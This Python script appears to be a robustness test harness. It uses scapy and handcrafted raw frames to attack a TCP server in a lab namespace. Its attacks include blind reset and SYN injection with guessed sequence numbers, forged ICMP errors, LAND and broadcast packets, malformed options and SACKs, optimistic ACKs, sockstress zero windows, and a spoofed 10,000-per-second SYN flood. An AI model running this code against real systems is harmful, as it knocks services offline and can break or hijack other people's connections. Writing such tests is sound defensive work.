#!/usr/bin/env python3
"""Attacks on a server with raw frames.

    attacks.py INTERFACE NAME PORT

One attack, from beginning to end; `ok NAME` is printed when it is over and whoever was attacked has answered as
it should. PORT is that of a conversation which the kernel of this namespace has with the server's echo; who attacks
knows it, but not its sequence numbers.
"""

import random
import struct
import sys
import time

import musts
from musts import CLOSED, DISCARD, ECHO, HTTP, PEER_IP, PEER_MAC, SERVER_IP, SERVER_MAC
from musts import Connection, put, take
from scapy.all import ICMP, IP, TCP, Ether, Raw, conf, get_if_hwaddr

KERNEL_IP = "192.0.2.254"
CHARGEN = 19
victim, interface = 0, ""


def as_kernel(packet):
    """A packet that seems to be the kernel's."""
    return bytes(Ether(src=get_if_hwaddr(interface), dst=SERVER_MAC) / packet)


def throw(frames):
    """Frames as fast as they go."""
    for frame in frames:
        musts.socket.outs.send(frame)


def numbers(count):
    """Sequence numbers all over the place."""
    return [(n * (1 << 32) // count + random.getrandbits(8)) & 0xFFFFFFFF for n in range(count)]


def forged_segments():
    """Resets, SYNs, data and acknowledgments of the conversation, with guessed numbers."""
    ip = IP(src=KERNEL_IP, dst=SERVER_IP)
    for flags in ("R", "RA", "S", "SA", "PA", "FA"):
        payload = b"forged" if "P" in flags else b""
        throw(
            as_kernel(ip / TCP(sport=victim, dport=ECHO, flags=flags, seq=seq, ack=~seq & 0xFFFFFFFF) / Raw(payload))
            for seq in numbers(200)
        )


def forged_reports():
    """Errors of routers about the conversation, with guessed numbers."""
    for kind in (1, 2, 3, 4, 13):
        for seq in numbers(100):
            quoted = IP(src=SERVER_IP, dst=KERNEL_IP) / TCP(sport=ECHO, dport=victim, seq=seq)
            error = ICMP(type=3, code=kind, nexthopmtu=68 if kind == 4 else 0)
            throw([as_kernel(IP(src="192.0.2.66", dst=SERVER_IP) / error / quoted)])


def land():
    """SYNs from the server to itself."""
    for port in (ECHO, HTTP, CLOSED):
        for flags in ("S", "SA", "A"):
            put(IP(src=SERVER_IP, dst=SERVER_IP) / TCP(sport=port, dport=port, flags=flags))


def everybody():
    """SYNs for everybody and from everybody."""
    for src, dst in (
        (PEER_IP, "192.0.2.255"),
        (PEER_IP, "255.255.255.255"),
        (PEER_IP, "224.0.0.1"),
        ("255.255.255.255", SERVER_IP),
        ("192.0.2.255", SERVER_IP),
        ("224.0.0.1", SERVER_IP),
        ("127.0.0.1", SERVER_IP),
        ("0.0.0.0", SERVER_IP),
    ):
        for mac in (SERVER_MAC, "ff:ff:ff:ff:ff:ff", "01:00:5e:00:00:01"):
            put(IP(src=src, dst=dst) / TCP(sport=4000, dport=HTTP, flags="S"), Ether(src=PEER_MAC, dst=mac))
    answers = list(take(4000, 0.5))
    assert not answers, answers


def raw_options(octets, flags="S", **fields):
    """A segment with options as they are."""
    octets += b"\0" * (-len(octets) % 4)
    segment = bytearray(bytes(TCP(flags=flags, dataofs=5 + len(octets) // 4, **fields)) + octets)
    pseudo = struct.pack("!4s4sBBH", bytes(map(int, PEER_IP.split("."))), bytes(map(int, SERVER_IP.split("."))), 0, 6, len(segment))
    segment[16:18] = b"\0\0"
    total = sum(struct.unpack(f"!{(len(pseudo) + len(segment)) // 2}H", pseudo + bytes(segment)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    segment[16:18] = struct.pack("!H", ~total & 0xFFFF)
    put(IP(src=PEER_IP, dst=SERVER_IP, proto=6) / Raw(bytes(segment)))


def option_grammar():
    """Options of every absurd length, in SYNs and on an open connection; segment sizes of nothing."""
    absurd = [bytes([kind, length]) + b"x" * 6 for kind in (2, 3, 4, 5, 8, 30, 253) for length in (0, 1, 2, 3, 255)]
    # First, while there is room to remember them: no cookie names so small a segment.
    for size in (0, 1, 48):
        small = Connection(ECHO, options=(("MSS", size),))
        small.say(b"x" * 100)
        assert small.hear(100)[0] == b"x" * 100, size
    connection = Connection(ECHO)
    for octets in absurd:
        raw_options(octets, sport=next(musts.ports), dport=HTTP, seq=1)
        raw_options(octets, "A", sport=connection.port, dport=ECHO, seq=connection.seq, ack=connection.ack)
    connection.say(b"still here?")
    assert connection.hear(11)[0] == b"still here?"


def absurd_sacks():
    """Selective acknowledgments that are reversed, empty, of what was never sent or is long gone."""
    connection = Connection(CHARGEN, options=(("MSS", 536), ("SAckOK", b"")))
    for _ in range(30):
        connection.hear(2000, 0.3, acknowledge=False)
        base = connection.ack
        for left, right in ((500, 100), (0, 0), (1 << 31, 3), (-5000, -4000), (10, 1 << 30), (-1, 1)):
            block = ((base + left) & 0xFFFFFFFF, (base + right) & 0xFFFFFFFF)
            connection.send("A", options=[("NOP", None), ("NOP", None), ("SAck", block)])
        connection.send("A")
    assert len(connection.hear(5000)[0]) >= 5000


def greedy_acknowledgments():
    """Acknowledgments of what did not arrive, and octet by octet."""
    connection = Connection(CHARGEN)
    for _ in range(20):
        start = connection.ack
        connection.hear(3000, 0.3, acknowledge=False)
        for part in range(0, 3000, 10):
            connection.send("A", ack=(start + part) & 0xFFFFFFFF)
        connection.send("A", ack=(connection.ack + 60_000) & 0xFFFFFFFF)
        connection.send("A", ack=(connection.ack + (1 << 31)) & 0xFFFFFFFF)
        connection.send("A")


def windows_that_shrink():
    """To nothing and back, while data is in flight."""
    connection = Connection(CHARGEN)
    for _ in range(40):
        connection.hear(500, 0.3, acknowledge=False)
        for window in (0, 1, 0, 60_000):
            connection.send("A", window=window)
    assert len(connection.hear(5000)[0]) >= 5000


def tiny_segments():
    """Segments of one octet, every second one missing, on several connections."""
    for connection in [Connection(DISCARD) for _ in range(4)]:
        throw(
            bytes(Ether(src=PEER_MAC, dst=SERVER_MAC) / connection.segment("A", b"x", seq=connection.seq + 2 * n + 1))
            for n in range(300)
        )


def urgent_nonsense():
    """Urgent pointers that point nowhere."""
    connection = Connection(ECHO)
    for pointer in (0, 1, 0x7FFF, 0xFFFF):
        connection.say(b"urgent", flags="PAU", urgptr=pointer)
    assert connection.hear(24)[0] == b"urgent" * 4


def strange_flags():
    """Every combination of flags with data, to open and closed ports."""
    for flags in range(64):
        for port in (ECHO, CLOSED):
            packet = IP(src=PEER_IP, dst=SERVER_IP) / TCP(sport=next(musts.ports), dport=port, flags=flags)
            put(packet / Raw(b"data with it"))


def sockets_that_take_nothing():
    """Connections that ask for much and close their windows (sockstress)."""
    for _ in range(60):
        connection = Connection(HTTP)
        connection.say(b"GET /bytes/1000000 HTTP/1.1\r\n\r\n")
        connection.send("A", window=0)


def handshakes_that_are_not_finished():
    """SYNs and nothing else, from one peer."""
    for _ in range(300):
        put(IP(src=PEER_IP, dst=SERVER_IP) / TCP(sport=random.randrange(1024, 65536), dport=HTTP, flags="S"))


def syn(number):
    """A SYN from somewhere, as a frame."""
    ether = bytes.fromhex((SERVER_MAC + PEER_MAC).replace(":", "")) + b"\x08\x00"
    src, dst = struct.pack("!I", 0x0A000000 + number), bytes(map(int, SERVER_IP.split(".")))
    ip = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 44, 0, 0, 64, 6, 0, src, dst))
    tcp = bytearray(struct.pack("!HHIIBBHHHBBH", 1024 + number % 60_000, HTTP, number * 7919 & 0xFFFFFFFF, 0, 0x60, 2, 60_000, 0, 0, 2, 4, 1460))

    def checksum(octets):
        total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
        total = (total & 0xFFFF) + (total >> 16)
        return struct.pack("!H", ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF)

    ip[10:12] = checksum(bytes(ip))
    tcp[16:18] = checksum(src + dst + struct.pack("!HH", 6, len(tcp)) + bytes(tcp))
    return ether + bytes(ip) + bytes(tcp)


def ten_thousand_syns_a_second():
    """From as many sources, for four seconds."""
    frames = [syn(random.getrandbits(24)) for _ in range(40_000)]
    begin, sent = time.monotonic(), 0
    while sent < len(frames):
        due = int((time.monotonic() - begin) * 10_000)
        throw(frames[sent : min(due, len(frames))])
        sent = max(sent, min(due, len(frames)))
        time.sleep(0.001)
    print(f"{sent / (time.monotonic() - begin):.0f} SYNs a second")


def main():
    global victim, interface
    interface, name, victim = sys.argv[1], sys.argv[2], int(sys.argv[3])
    musts.socket = conf.L2socket(iface=interface, promisc=True)
    globals()[name]()
    print(f"ok {name}", flush=True)


main()
